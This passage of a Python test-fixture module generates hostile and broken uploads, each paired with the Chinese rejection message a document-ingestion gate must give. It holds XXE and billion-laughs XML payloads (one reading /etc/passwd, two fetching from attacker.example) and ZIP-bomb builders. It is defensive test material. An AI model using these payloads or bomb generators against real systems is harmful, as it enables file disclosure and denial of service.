"""A corpus of hostile and broken uploads, each with the message that must reject it.

Every case is built on demand into a directory (a pytest ``tmp_path``), so nothing
binary lives in the repository. A case names its *guard*; each guard has one
message fragment that only its messages contain, so a test can tell not just that
a file was refused but that it was refused for the right reason.

Stages:
  gate    ``check_file`` refuses it before any reader runs.
  decode  the gate lets it through (it is text without NULs) but ``decode_text`` refuses it.
  parse   a well-formed file that ``parse_file`` refuses because there is no plan in it.

ZIP files are written by a small raw writer (``_zip``) rather than ``zipfile`` so a
case can state lying sizes, flags, shared data and names that zipfile would refuse
to write.
"""

from __future__ import annotations

import bz2
import functools
import io
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from pathlib import Path

import docx
from openpyxl import Workbook

GATE, DECODE, PARSE = "gate", "decode", "parse"

# guard -> the fragment only that guard's messages contain
GUARDS: dict[str, str] = {
    "missing": "找不到文件",
    "not_regular": "不是普通文件",
    "unreadable": "无法读取文件",
    "empty": "文件是空的",
    "too_large": "超过上限 20 MB",
    "extension": "不支持的文件类型",
    "mismatch": "文件内容与扩展名不符",
    "rename": "请把扩展名改为",
    "encrypted": "设有打开密码",
    "zip_corrupt": "文件已损坏",
    "zip_missing_part": "缺少必要的组成部分",
    "zip_entries": "组成部分过多",
    "zip_inflated_size": "解压后的内容超过",
    "zip_ratio": "压缩比异常",
    "zip_encrypted_entry": "部分内容被加密",
    "zip_path": "不安全的内部路径",
    "zip_method": "不支持的压缩方式",
    "xml_dtd": "不允许的 XML 声明（DTD/实体）",
    "encoding": "无法识别文件编码",
    # The parser's messages (duban.ingest.interpret / tables).
    "nothing_found": "未找到",
    "no_header": "未找到表头",
    "extra_cells": "比表头多",
}
# Guards whose messages come from the gate and decode_text: these must not share text.
OWN_GUARDS = tuple(g for g in GUARDS if g not in ("nothing_found", "no_header", "extra_cells"))


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    guard: str
    build: Callable[[Path], Path | None]  # may return the path to check instead of its own
    stage: str = GATE
    also: tuple[str, ...] = ()  # further text the message must contain

    @property
    def fragment(self) -> str:
        return GUARDS[self.guard]

    def make(self, directory: Path) -> Path:
        """Build the case's file in ``directory`` and return its path."""
        path = directory / self.filename
        return self.build(path) or path


def build_corpus(directory: Path) -> dict[str, Path]:
    """Every case built into its own subdirectory of ``directory``, keyed by case name."""
    built = {}
    for case in CASES:
        folder = directory / case.name
        folder.mkdir(parents=True, exist_ok=True)
        built[case.name] = case.make(folder)
    return built


# ---------------------------------------------------------------- valid files to break


@functools.lru_cache
def valid_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("2025年重点工作安排表")
    table = document.add_table(rows=1, cols=4)
    for cell, text in zip(table.rows[0].cells, ["序号", "重点工作", "牵头单位", "完成时限"], strict=True):
        cell.text = text
    for number, (task, lead, due) in enumerate(
        [("推进重大项目建设", "市发改委", "2025年6月"), ("优化营商环境", "市商务局", "2025年底")], 1
    ):
        for cell, text in zip(table.add_row().cells, [str(number), task, lead, due], strict=True):
            cell.text = text
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@functools.lru_cache
def valid_xlsx() -> bytes:
    return _xlsx(
        [["序号", "重点工作", "牵头单位", "完成时限"], [1, "推进重大项目建设", "市发改委", "2025年6月"]]
    )


def _xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "重点工作"
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _docx_paragraphs(paragraphs: list[str]) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def parts_of(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


# ---------------------------------------------------------------- a raw ZIP writer


@dataclass(frozen=True)
class Entry:
    """One ZIP entry exactly as recorded: data is what is stored (compressed or not)."""

    name: str
    data: bytes
    crc: int
    size: int  # uncompressed size recorded in both headers
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    comment: bytes = b""
    same_data_as: str | None = None  # no local header: point at another entry's


def entry(name: str, content: bytes, method: int = zipfile.ZIP_DEFLATED) -> Entry:
    if method == zipfile.ZIP_STORED:
        data = content
    elif method == zipfile.ZIP_BZIP2:
        data = bz2.compress(content)
    else:
        data = _deflate(content)
    return Entry(name, data, zlib.crc32(content), len(content), method)


def _deflate(content: bytes, level: int = 9) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


@functools.lru_cache
def deflated_repeat(unit: bytes, count: int) -> tuple[bytes, int]:
    """(raw deflate data, crc) of ``unit * count``, built without holding it inflated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = unit * max(1, (1 << 20) // len(unit))
    out, crc, left = [], 0, len(unit) * count
    while left > 0:
        piece = block[:left]
        out.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    out.append(packer.flush())
    return b"".join(out), crc


def _zip(entries: Iterable[Entry]) -> bytes:
    body, directory = bytearray(), bytearray()
    offsets: dict[str, int] = {}
    items = list(entries)
    for item in items:
        raw_name = item.name.encode("utf-8")
        flags = item.flags | (0x800 if not item.name.isascii() else 0)
        if item.same_data_as is None:
            offsets[item.name] = len(body)
            body += struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, flags, item.method, 0, 0x21,
                item.crc, len(item.data), item.size, len(raw_name), 0,
            )  # fmt: skip
            body += raw_name + item.data
        offset = offsets[item.same_data_as or item.name]
        compressed = len(item.data)
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, item.method, 0, 0x21,
            item.crc, compressed, item.size, len(raw_name), 0, len(item.comment), 0, 0, 0, offset,
        )  # fmt: skip
        directory += raw_name + item.comment
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(items), len(items), len(directory), len(body), 0)
    return bytes(body + directory + end)


def office(
    base: bytes,
    *,
    replace_parts: dict[str, bytes] | None = None,
    drop: Iterable[str] = (),
    add: Iterable[Entry] = (),
    tweak: Callable[[Entry], Entry] | None = None,
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A valid package rewritten: parts replaced, dropped, added, or their records altered."""
    replace_parts = replace_parts or {}
    dropped = set(drop)
    entries = [
        entry(name, replace_parts.get(name, content), method)
        for name, content in parts_of(base)
        if name not in dropped
    ]
    if tweak is not None:
        entries = [tweak(e) for e in entries]
    return _zip([*entries, *add])


def _only(name: str, change: Callable[[Entry], Entry]) -> Callable[[Entry], Entry]:
    return lambda e: change(e) if e.name == name else e


def _prepend_doctype(xml: bytes, doctype: bytes) -> bytes:
    """Put a DOCTYPE between the XML declaration and the root element."""
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:end] + b"\n" + doctype + xml[end:]


def _part(base: bytes, name: str) -> bytes:
    return dict(parts_of(base))[name]


def _with_doctype(base: bytes, name: str, doctype: bytes) -> bytes:
    return office(base, replace_parts={name: _prepend_doctype(_part(base, name), doctype)})


# openpyxl writes strings inline, so the shared-strings cases add the part themselves.
SHARED_STRINGS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>\xe7\x94\xb2</t></si></sst>"
)


# ---------------------------------------------------------------- other formats


def _ole(stream_names: Iterable[str], *, data_sectors: int = 2) -> bytes:
    """A small compound file (OLE2, version 3) with the given stream names in its directory.

    Sector 0 holds the FAT, sectors 1..n noise data, the last one the directory.
    """
    header = bytearray(512)
    struct.pack_into(
        "<8s16s5H6x9L", header, 0, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16),
        0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1 + data_sectors, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0,
    )  # fmt: skip
    struct.pack_into("<109L", header, 76, 0, *([0xFFFFFFFF] * 108))  # the FAT is sector 0
    fat = [0xFFFFFFFD, *range(2, 1 + data_sectors), 0xFFFFFFFE, 0xFFFFFFFE]
    fat_sector = struct.pack(f"<{len(fat)}L", *fat) + b"\xff" * (512 - 4 * len(fat))
    names = ["Root Entry", *stream_names]
    directory = bytearray()
    for index, name in enumerate(names):
        raw = (name + "\x00").encode("utf-16-le")
        directory += struct.pack(
            "<64sHBB3L16sL16s3L", raw, len(raw), 5 if index == 0 else 2, 1,
            0xFFFFFFFF, index + 1 if 0 < index < len(names) - 1 else 0xFFFFFFFF,
            1 if index == 0 else 0xFFFFFFFF, bytes(16), 0, bytes(16), 1, 64, 0,
        )  # fmt: skip
    directory += b"\x00" * (-len(directory) % 512)
    data = random.Random(11).randbytes(512 * data_sectors)
    return bytes(header) + fat_sector + data + bytes(directory)


def _png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    pixels = zlib.compress(b"\x00\xff\x00\x00")
    ihdr = struct.pack(">2L5B", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


_PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + b"\x80\x00\x00\x00"
    + bytes(64)
)
_EXE += b"PE\x00\x00" + bytes(200)
_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + bytes(200)
_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
_GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
_GIF += b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
_HTML = (
    "<html><head><meta charset='utf-8'></head><body><table>"
    "<tr><td>序号</td><td>重点工作</td></tr><tr><td>1</td><td>推进项目</td></tr></table></body></html>"
).encode()
_MHT = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart"\r\n\r\n'
_RTF = rb"{\rtf1\ansi\ansicpg936 {\fonttbl{\f0 SimSun;}} \f0 \'d6\'d8\'b5\'e3\'b9\'a4\'d7\'f7\par }"
_EXCEL_2003_XML = (
    b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>\n'
)
_CSV_TEXT = "序号,重点工作,牵头单位\n1,推进重大项目建设,市发改委\n"
_PROSE = (
    "今年以来，全市上下认真贯彻落实各项决策部署，经济社会发展总体平稳。\n"
    "下一步，我们将继续坚持稳中求进工作总基调，努力完成全年目标。\n"
    "会议强调，各部门要提高认识，加强协作，确保工作取得实效。\n"
)


def _random_zip() -> bytes:
    chaos = random.Random(5)
    return _zip([entry(f"data/{i}.bin", chaos.randbytes(300)) for i in range(3)])


def _random_bytes(seed: int, size: int, alphabet: range = range(256)) -> bytes:
    chaos = random.Random(seed)
    return bytes(chaos.choice(alphabet) for _ in range(size))


# ---------------------------------------------------------------- builders


def write(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return build


def sparse(size: int) -> Callable[[Path], None]:
    """A file of ``size`` bytes that takes no disk space (the gate only looks at its size)."""

    def build(path: Path) -> None:
        with path.open("wb") as stream:
            stream.write(b"PK\x03\x04")
            stream.truncate(size)

    return build


def _nothing(path: Path) -> None:
    """A missing file: build nothing."""


def _directory(path: Path) -> None:
    path.mkdir()
    (path / "计划.xlsx").write_bytes(valid_xlsx())


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _dangling_link(path: Path) -> None:
    path.symlink_to(path.parent / "does-not-exist.xlsx")


def _link_loop(path: Path) -> None:
    other = path.parent / f"other-{path.name}"
    path.symlink_to(other)
    other.symlink_to(path)


def _under_a_file(path: Path) -> Path:
    """A path that goes through a regular file as if it were a folder."""
    path.write_bytes(b"x")
    return path / "计划.csv"


def truncated(data: Callable[[], bytes], fraction: float = 0.0, *, cut: int = 0) -> Callable[[], bytes]:
    return lambda: data()[: int(len(data()) * fraction) if fraction else len(data()) - cut]


def _flip_stored_byte() -> bytes:
    """A stored (uncompressed) document.xml with one byte changed: only the CRC can tell."""
    data = bytearray(office(valid_docx(), method=zipfile.ZIP_STORED))
    at = data.index(b"<w:body>") + 3
    data[at] ^= 0x20
    return bytes(data)


def _garbled_deflate() -> bytes:
    """Noise written over the middle of the compressed document.xml."""
    data = bytearray(valid_docx())
    start = data.index(b"word/document.xml") + 200
    data[start : start + 64] = random.Random(3).randbytes(64)
    return bytes(data)


def _corrupt_central_directory() -> bytes:
    data = bytearray(valid_docx())
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    data[second : second + 4] = b"PK\xff\xff"
    return bytes(data)


def _cd_comment_bloat() -> bytes:
    """Directory records padded with 65 KB comments: few entries, but a huge directory to parse."""
    extra = [replace(entry(f"customXml/bloat{i}.xml", b"<a/>"), comment=b"c" * 65_000) for i in range(12)]
    return office(valid_docx(), tweak=lambda e: replace(e, comment=b"c" * 65_000), add=extra)


def _many_entries(count: int) -> Callable[[], bytes]:
    return lambda: office(valid_docx(), add=[entry(f"word/media/x{i}.bin", b"x") for i in range(count)])


def _zero_bomb(name: str, megabytes: int, *, declared: int | None = None) -> bytes:
    """A docx whose part ``name`` inflates to ``megabytes`` MB of zeros (about 1 KB per MB stored)."""
    data, crc = deflated_repeat(b"\x00", megabytes << 20)
    bomb = Entry(name, data, crc, declared if declared is not None else megabytes << 20)
    return office(valid_docx(), drop=[name], add=[bomb])


def _total_bomb() -> bytes:
    """Three honest records of 70 MB each, each part with its own data: 210 MB in all."""
    data, crc = deflated_repeat(b"\x00", 70 << 20)
    parts = [Entry(f"word/media/big{i}.bin", data, crc, 70 << 20) for i in range(3)]
    return office(valid_docx(), add=parts)


def _strings_bomb() -> bytes:
    unit = b"<si><t>\xe7\x94\xb2</t></si>"
    data, crc = deflated_repeat(unit, (20 << 20) // len(unit))
    strings = Entry("xl/sharedStrings.xml", data, crc, len(unit) * ((20 << 20) // len(unit)))
    return office(valid_xlsx(), add=[strings])


def _overlapping() -> bytes:
    """A second directory record pointing at document.xml's bytes (a non-recursive bomb's trick)."""
    base = office(valid_docx())
    document = next(e for e in _entries_of(base) if e.name == "word/document.xml")
    alias = replace(document, name="word/document2.xml", same_data_as="word/document.xml")
    return _zip([*_entries_of(base), alias])


def _entries_of(data: bytes) -> list[Entry]:
    return [entry(name, content) for name, content in parts_of(data)]


def _duplicate_names() -> bytes:
    return office(valid_docx(), add=[entry("word/document.xml", b"<w:document/>")])


_DECLARED = re.compile(rb"""encoding=["'][^"']*["']""")


def _declare(xml: bytes, codec: str) -> bytes:
    return _DECLARED.sub(f'encoding="{codec}"'.encode(), xml, count=1)


def _utf16_part(base: bytes, name: str, doctype: bytes) -> bytes:
    xml = _declare(_prepend_doctype(_part(base, name), doctype), "UTF-16").decode("utf-8")
    return office(base, replace_parts={name: xml.encode("utf-16")})


def _long_comment_then_doctype() -> bytes:
    doctype = b"<!--" + b"a" * 100_000 + b"-->" + b'<!DOCTYPE w:document [<!ENTITY x "y">]>'
    return _with_doctype(valid_docx(), "word/document.xml", doctype)


def _encoding_declared(codec: str) -> bytes:
    base = valid_docx()
    xml = _declare(_part(base, "word/document.xml"), codec)
    return office(base, replace_parts={"word/document.xml": xml})


def _ebcdic_part() -> bytes:
    base = valid_docx()
    text = _declare(_part(base, "word/document.xml"), "cp500").decode("utf-8")
    ebcdic = text.encode("cp500", "replace")
    return office(base, replace_parts={"word/document.xml": ebcdic})


def _marker_across_chunks() -> bytes:
    """OLE2 noise with "EncryptedPackage" straddling the scanner's 256 KiB chunk edge."""
    marker = "EncryptedPackage".encode("utf-16-le")
    data = bytearray(_ole(["Data"]) + random.Random(6).randbytes(300_000))
    at = 256 * 1024 - 10
    data[at : at + len(marker)] = marker
    return bytes(data)


_BILLION_LAUGHS = b"""<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>"""
_XXE = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_EXTERNAL_DTD = b'<!DOCTYPE Types SYSTEM "http://attacker.example/evil.dtd">'
_PARAMETER_ENTITY = b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>'


def _xlsx_rows_extra_cells() -> bytes:
    return _xlsx(
        [
            ["序号", "重点工作", "牵头单位", "完成时限"],
            [1, "推进重大项目建设", "市发改委", "2025年6月"],
            [2, "优化营商环境", "市商务局", "2025年底"],
            [3, "建设产业园区", "市工信局", "2025年9月", "多出来的一格", "又一格"],
        ]
    )


def _xlsx_no_header() -> bytes:
    return _xlsx([[12, 34, 56], [78, 90, 12], ["甲", "乙", "丙"], [1.5, 2.5, 3.5]])


# ---------------------------------------------------------------- the corpus

_DOCX, _XLSX = valid_docx, valid_xlsx


CASES: list[Case] = [
    # -- the file itself
    Case("missing_file", "不存在.docx", "missing", _nothing),
    Case("dangling_symlink", "断开的链接.xlsx", "missing", _dangling_link),
    Case("path_through_a_file", "普通文件.txt", "missing", _under_a_file),
    Case("directory", "计划.docx", "not_regular", _directory),
    Case("fifo", "管道.csv", "not_regular", _fifo),
    Case("symlink_loop", "循环链接.txt", "unreadable", _link_loop),
    Case("empty_docx", "空.docx", "empty", write(b"")),
    Case("empty_csv", "空.csv", "empty", write(b"")),
    Case("empty_doc", "空.doc", "empty", write(b"")),
    Case("too_large_xlsx", "超大.xlsx", "too_large", sparse(int(25.3 * 1024 * 1024)), also=("25.3 MB",)),
    Case("too_large_by_one_byte", "刚超.txt", "too_large", sparse(20 * 1024 * 1024 + 1), also=("20.1 MB",)),
    Case("too_large_gigabyte", "一个G.csv", "too_large", sparse(1 << 30), also=("1024.0 MB",)),
    # -- extensions
    Case("ext_ofd", "计划.ofd", "extension", write(_random_zip), also=(".ofd", ".docx", ".pdf", ".html")),
    Case("ext_exe", "计划.exe", "extension", write(_EXE), also=(".exe",)),
    Case("ext_zip", "计划.zip", "extension", write(_random_zip), also=(".zip",)),
    Case("ext_pptx", "汇报.pptx", "extension", write(_random_zip), also=(".pptx",)),
    Case("ext_mht", "导出.mht", "extension", write(_MHT), also=(".mht",)),
    Case("ext_json", "数据.json", "extension", write(b'{"a": 1}'), also=(".json",)),
    Case("ext_none", "计划", "extension", write(_DOCX), also=("没有扩展名",)),
    Case("ext_double", "计划.docx.exe", "extension", write(_EXE), also=(".exe",)),
    Case("ext_xlsm", "宏.xlsm", "extension", write(_XLSX), also=(".xlsm",)),
    # -- content that is something else
    Case("png_as_docx", "图片.docx", "mismatch", write(_png), also=("PNG 图片",)),
    Case("pdf_as_docx", "扫描件.docx", "rename", write(_PDF), also=("PDF 文件", ".pdf")),
    Case("exe_as_xlsx", "程序.xlsx", "mismatch", write(_EXE), also=("可执行程序",)),
    Case("elf_as_xlsx", "程序2.xlsx", "mismatch", write(_ELF), also=("ELF",)),
    Case("jpeg_as_doc", "照片.doc", "mismatch", write(_JPEG), also=("JPEG 图片",)),
    Case("pdf_as_xls", "扫描件.xls", "rename", write(_PDF), also=("PDF 文件", ".pdf")),
    Case("gif_as_et", "动图.et", "mismatch", write(_GIF), also=("GIF 图片",)),
    Case("png_as_csv", "图片.csv", "mismatch", write(_png), also=("PNG 图片",)),
    Case("pdf_as_txt", "扫描件.txt", "rename", write(_PDF), also=("PDF 文件", ".pdf")),
    Case("exe_as_csv", "程序.csv", "mismatch", write(_EXE), also=("EXE",)),
    Case("elf_as_txt", "程序.txt", "mismatch", write(_ELF), also=("ELF",)),
    Case("gif_as_txt", "动图.txt", "mismatch", write(_GIF), also=("GIF 图片",)),
    Case("gzip_as_csv", "压缩.csv", "mismatch", write(b"\x1f\x8b\x08\x00" + bytes(20)), also=("gzip",)),
    Case("random_zip_as_docx", "压缩包.docx", "mismatch", write(_random_zip), also=("ZIP 压缩包",)),
    Case("random_zip_as_xlsx", "压缩包.xlsx", "mismatch", write(_random_zip), also=("ZIP 压缩包",)),
    Case("random_zip_as_csv", "压缩包.csv", "mismatch", write(_random_zip), also=("ZIP 压缩包",)),
    Case("empty_zip_as_xlsx", "空压缩包.xlsx", "mismatch", write(b"PK\x05\x06" + bytes(18))),
    Case("ole_noise_as_csv", "旧文件.csv", "mismatch", write(lambda: _ole(["Data"])), also=("OLE2",)),
    Case("ole_noise_as_docx", "旧文件.docx", "mismatch", write(lambda: _ole(["Data"])), also=("OLE2",)),
    Case("binary_blob_as_csv", "数据.csv", "mismatch", write(_random_bytes(1, 4096)), also=("二进制",)),
    Case("nul_filled_txt", "全零.txt", "mismatch", write(bytes(10_000)), also=("二进制",)),
    Case("nul_inside_gbk_txt", "夹零.txt", "mismatch", write(_PROSE.encode("gbk") + b"\x00" + b"abc")),
    Case("html_as_xls", "系统导出.xls", "rename", write(_HTML), also=("网页", ".html")),
    # -- web pages and PDFs that are something else
    Case("docx_as_pdf", "计划.pdf", "rename", write(_DOCX), also=(".docx",)),
    Case("png_as_pdf", "扫描.pdf", "mismatch", write(_png), also=("PNG 图片",)),
    Case("text_as_pdf", "文字.pdf", "mismatch", write(_PROSE.encode("gbk")), also=("纯文本",)),
    Case("truncated_pdf", "半截.pdf", "zip_corrupt", write(_PDF[:-7]), also=("缺少结尾标记",)),
    Case("text_as_html", "网页.html", "mismatch", write(_PROSE.encode("gbk")), also=("纯文本",)),
    Case("exe_as_htm", "网页.htm", "mismatch", write(_EXE), also=("EXE",)),
    Case("nul_inside_html", "网页2.html", "mismatch", write(_HTML + b"\x00" + _HTML)),
    Case("zip_as_html", "网页3.html", "rename", write(_DOCX), also=(".docx",)),
    Case("mht_as_doc", "网页.doc", "mismatch", write(_MHT), also=("MHT",)),
    Case("rtf_as_doc", "富文本.doc", "mismatch", write(_RTF), also=("RTF",)),
    Case("xml2003_as_xls", "表格2003.xls", "mismatch", write(_EXCEL_2003_XML), also=("Excel 2003 XML",)),
    Case("csv_text_as_xlsx", "其实是文本.xlsx", "mismatch", write(_CSV_TEXT.encode()), also=("纯文本",)),
    Case("gbk_text_as_docx", "其实是文本.docx", "mismatch", write(_PROSE.encode("gbk")), also=("纯文本",)),
    Case("noise_as_docx", "乱码.docx", "mismatch", write(_random_bytes(2, 2048)), also=("不是Word",)),
    Case(
        "pptx_as_docx",
        "演示.docx",
        "mismatch",
        write(
            lambda: _zip([entry("[Content_Types].xml", b"<Types/>"), entry("ppt/presentation.xml", b"<p/>")])
        ),
        also=("PowerPoint",),
    ),
    Case(
        "xlsb_as_xlsx",
        "二进制.xlsx",
        "mismatch",
        write(lambda: _zip([entry("[Content_Types].xml", b"<Types/>"), entry("xl/workbook.bin", b"\x83")])),
        also=(".xlsb",),
    ),
    Case(
        "odt_as_docx",
        "开放格式.docx",
        "mismatch",
        write(
            lambda: _zip(
                [entry("mimetype", b"application/vnd.oasis.opendocument.text"), entry("content.xml", b"<a/>")]
            )
        ),
        also=("OpenDocument",),
    ),
    # -- the right format under the wrong extension
    Case("docx_as_xlsx", "文档.xlsx", "rename", write(_DOCX), also=(".docx",)),
    Case("xlsx_as_docx", "表格.docx", "rename", write(_XLSX), also=(".xlsx",)),
    Case("docx_as_doc", "文档.doc", "rename", write(_DOCX), also=(".docx",)),
    Case("docx_as_wps", "文档.wps", "rename", write(_DOCX), also=(".docx",)),
    Case("xlsx_as_xls", "表格.xls", "rename", write(_XLSX), also=(".xlsx",)),
    Case("xlsx_as_et", "表格.et", "rename", write(_XLSX), also=(".xlsx",)),
    Case("xlsx_as_csv", "表格.csv", "rename", write(_XLSX), also=(".xlsx",)),
    Case("docx_as_txt", "文档.txt", "rename", write(_DOCX), also=(".docx",)),
    Case(
        "doc_as_docx",
        "旧文档.docx",
        "rename",
        write(lambda: _ole(["WordDocument", "1Table"])),
        also=(".doc ",),
    ),
    Case("xls_as_xlsx", "旧表格.xlsx", "rename", write(lambda: _ole(["Workbook"])), also=(".xls ",)),
    Case("xls_as_csv", "旧表格.csv", "rename", write(lambda: _ole(["Workbook"])), also=(".xls ",)),
    # -- password-protected Office files
    Case(
        "encrypted_docx",
        "加密.docx",
        "encrypted",
        write(lambda: _ole(["EncryptionInfo", "EncryptedPackage"])),
    ),
    Case(
        "encrypted_xlsx",
        "加密.xlsx",
        "encrypted",
        write(lambda: _ole(["EncryptionInfo", "EncryptedPackage"])),
    ),
    Case("encrypted_docx_as_doc", "加密.doc", "encrypted", write(lambda: _ole(["EncryptedPackage"]))),
    Case("encrypted_marker_across_chunks", "加密2.xlsx", "encrypted", write(_marker_across_chunks)),
    # -- broken ZIP containers
    Case("truncated_docx_10pct", "截断1.docx", "zip_corrupt", write(truncated(_DOCX, 0.1))),
    Case("truncated_docx_50pct", "截断2.docx", "zip_corrupt", write(truncated(_DOCX, 0.5))),
    Case("truncated_docx_95pct", "截断3.docx", "zip_corrupt", write(truncated(_DOCX, 0.95))),
    Case("truncated_docx_end_record", "截断4.docx", "zip_corrupt", write(truncated(_DOCX, cut=5))),
    Case("truncated_xlsx_30pct", "截断5.xlsx", "zip_corrupt", write(truncated(_XLSX, 0.3))),
    Case("truncated_xlsx_80pct", "截断6.xlsx", "zip_corrupt", write(truncated(_XLSX, 0.8))),
    Case("corrupt_central_directory", "目录坏.docx", "zip_corrupt", write(_corrupt_central_directory)),
    Case(
        "bad_crc_record",
        "校验错1.docx",
        "zip_corrupt",
        write(lambda: office(_DOCX(), tweak=_only("word/document.xml", lambda e: replace(e, crc=e.crc ^ 1)))),
    ),
    Case("bad_crc_flipped_byte", "校验错2.docx", "zip_corrupt", write(_flip_stored_byte)),
    Case("garbled_deflate_stream", "数据坏.docx", "zip_corrupt", write(_garbled_deflate)),
    Case(
        "declared_size_smaller_than_data",
        "大小不符1.docx",
        "zip_corrupt",
        write(
            lambda: office(_DOCX(), tweak=_only("word/document.xml", lambda e: replace(e, size=e.size // 2)))
        ),
    ),
    Case(
        "declared_size_larger_than_data",
        "大小不符2.xlsx",
        "zip_corrupt",
        write(
            lambda: office(_XLSX(), tweak=_only("xl/workbook.xml", lambda e: replace(e, size=e.size + 4000)))
        ),
    ),
    Case(
        "lying_small_size_on_a_bomb",
        "大小不符3.docx",
        "zip_corrupt",
        write(lambda: _zero_bomb("word/document.xml", 100, declared=4096)),
    ),
    Case(
        "stored_size_mismatch",
        "大小不符4.docx",
        "zip_corrupt",
        write(
            lambda: office(
                _DOCX(),
                method=zipfile.ZIP_STORED,
                tweak=_only("word/styles.xml", lambda e: replace(e, data=e.data + b"   ")),
            ),
        ),
    ),
    Case("duplicate_part_names", "重名.docx", "zip_corrupt", write(_duplicate_names)),
    Case("overlapping_entries", "重叠.docx", "zip_corrupt", write(_overlapping)),
    Case("ebcdic_xml_part", "编码怪.docx", "zip_corrupt", write(_ebcdic_part)),
    # -- packages missing their parts
    Case(
        "docx_without_content_types",
        "缺类型.docx",
        "zip_missing_part",
        write(lambda: office(_DOCX(), drop=["[Content_Types].xml"])),
        also=("[Content_Types].xml",),
    ),
    Case(
        "docx_without_document",
        "缺正文.docx",
        "zip_missing_part",
        write(lambda: office(_DOCX(), drop=["word/document.xml"])),
        also=("word/document.xml",),
    ),
    Case(
        "xlsx_without_workbook",
        "缺工作簿.xlsx",
        "zip_missing_part",
        write(lambda: office(_XLSX(), drop=["xl/workbook.xml"])),
        also=("xl/workbook.xml",),
    ),
    # -- bombs
    Case("entry_count_bomb", "很多部分.docx", "zip_entries", write(_many_entries(1000)), also=("1000",)),
    Case("entry_count_bomb_large", "极多部分.xlsx", "zip_entries", write(_many_entries(20_000))),
    Case("central_directory_bloat", "目录大.docx", "zip_entries", write(_cd_comment_bloat)),
    Case(
        "declared_size_bomb",
        "声明大.docx",
        "zip_inflated_size",
        write(lambda: office(_DOCX(), tweak=lambda e: replace(e, size=e.size + (20 << 20)))),
        also=("200 MB",),
    ),
    Case("inflated_total_bomb", "总量大.docx", "zip_inflated_size", write(_total_bomb)),
    Case(
        "ratio_bomb_document",
        "炸弹.docx",
        "zip_ratio",
        write(lambda: _zero_bomb("word/document.xml", 100)),
        also=("word/document.xml",),
    ),
    Case("ratio_bomb_shared_strings", "炸弹.xlsx", "zip_ratio", write(_strings_bomb)),
    Case(
        "ratio_bomb_small_media",
        "炸弹2.docx",
        "zip_ratio",
        write(lambda: _zero_bomb("word/media/image1.png", 2)),
    ),
    # -- entries that must not be inflated or extracted
    Case(
        "encrypted_zip_entry",
        "内容加密.docx",
        "zip_encrypted_entry",
        write(lambda: office(_DOCX(), tweak=_only("word/document.xml", lambda e: replace(e, flags=1)))),
    ),
    Case(
        "path_dot_dot",
